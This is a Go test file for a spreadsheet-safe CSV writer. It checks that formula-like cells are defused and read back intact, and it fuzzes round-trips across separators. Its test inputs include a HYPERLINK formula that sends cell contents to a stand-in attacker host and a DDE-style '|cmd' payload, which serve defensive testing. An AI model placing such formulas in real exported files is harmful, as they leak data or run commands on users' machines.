package sheet_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/datacite-go/datacite-go"
	"github.com/datacite-go/datacite-go/cmd/datacite/internal/sheet"
)

// A text of a stranger is no formula in a spreadsheet, and is read back as it was.
func TestFormulasAreDefused(t *testing.T) {
	cells := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1", "\n=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(1)",
		"'=1+1", "''-x", "'quoted'", "'", "a=b", "10.5072/a", "", "−5", "1-2",
	}
	var out bytes.Buffer
	w := sheet.NewCSVWriter(&out)
	require.NoError(t, w.Write(cells))
	require.NoError(t, w.Close())
	assert.Equal(t, 12, w.Defused)
	shown, err := csv.NewReader(strings.NewReader(out.String())).Read()
	require.NoError(t, err)
	for _, cell := range shown {
		assert.NotRegexp(t, `^[=+@＝＋－＠\t\r\n-]`, cell)
	}
	read, err := sheet.NewReader("t", &out).Read()
	require.NoError(t, err)
	assert.Equal(t, cells, read)
}

// FuzzFormulas: what is written is read back, also where the first row could be taken for one with
// other separators.
func FuzzFormulas(f *testing.F) {
	f.Add("=1", "")
	f.Add("''-", "x")
	f.Add(";;", "a,b")
	f.Add(",+", "")
	f.Add("a\tb\tc", "\"")
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, s := range []*string{&a, &b} {
			if *s = strings.ToValidUTF8(*s, ""); strings.ContainsAny(*s, "\x00\r") || len(*s) > 1000 {
				return // CSV has no lone line ends of its own
			}
		}
		for _, comma := range ",;\t" {
			for _, rows := range [][][]string{{{"x", a, b}, {b, a, ""}}, {{a}, {b}}} {
				var out bytes.Buffer
				w := sheet.NewCSVWriter(&out)
				w.Comma, w.CRLF = comma, len(a) > len(b)
				for _, row := range rows {
					require.NoError(t, w.Write(row))
				}
				require.NoError(t, w.Close())
				other := csv.NewReader(bytes.NewReader(out.Bytes()))
				other.Comma = comma
				shown, err := other.ReadAll()
				require.NoError(t, err)
				for _, cell := range slices.Concat(shown...) {
					assert.NotRegexp(t, `^[=+@＝＋－＠\t\r\n-]`, cell)
				}
				r := sheet.NewReader("t", &out)
				for _, row := range rows {
					read, err := r.Read()
					require.NoError(t, err)
					assert.Equal(t, row, read)
				}
				if len(rows[0]) > 1 {
					assert.Equal(t, w.Layout, r.Layout())
				}
			}
		}
	})
}

func TestASeparatorThatIsNoneIsRefused(t *testing.T) {
	w := sheet.NewCSVWriter(io.Discard)
	w.Comma = '|'
	require.ErrorIs(t, w.Write([]string{"a"}), datacite.ErrInvalid)
}
